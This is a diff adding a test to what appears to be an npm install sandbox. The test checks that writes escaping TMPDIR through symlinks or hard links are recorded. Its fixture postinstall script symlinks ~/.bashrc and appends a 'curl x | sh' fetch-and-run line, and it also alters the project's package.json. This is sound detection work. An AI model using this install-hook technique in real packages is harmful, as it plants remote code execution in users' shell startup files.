@@ -254,3 +254,23 @@ def test_the_trace_reader_sees_a_canary_under_another_name() -> None:
         .get("~/.npmrc", "")
         .startswith("openat(")
     )
+
+
+# A write outside through a name inside TMPDIR: a symlink to ~/.bashrc, a hard link of the project's package.json.
+INDIRECT_WRITE = r"""
+const fs = require('fs'), os = require('os'), path = require('path');
+const tmp = os.tmpdir();
+fs.symlinkSync(path.join(os.homedir(), '.bashrc'), path.join(tmp, 'w'));
+fs.appendFileSync(path.join(tmp, 'w'), 'curl x | sh\n');
+fs.linkSync(path.resolve(__dirname, '../../package.json'), path.join(tmp, 'h'));
+fs.appendFileSync(path.join(tmp, 'h'), '\n');
+console.log('indirect writes done');
+"""
+
+
+def test_a_write_outside_through_a_link_in_tmpdir_is_recorded(tmp_path: Path) -> None:
+    tgz = pack(tmp_path, "indirect-write-demo", {"postinstall": "node w.js"}, {"w.js": INDIRECT_WRITE})
+    obs = sandbox.observe_install(tgz, "indirect-write-demo", registry=NO_REGISTRY)
+    assert obs.exit_code == 0 and "indirect writes done" in obs.output, obs.output
+    beh = profile_of(obs).packages["indirect-write-demo"]
+    assert {"~/.bashrc", "<project>/package.json"} <= set(beh.items["writes"]), beh.items
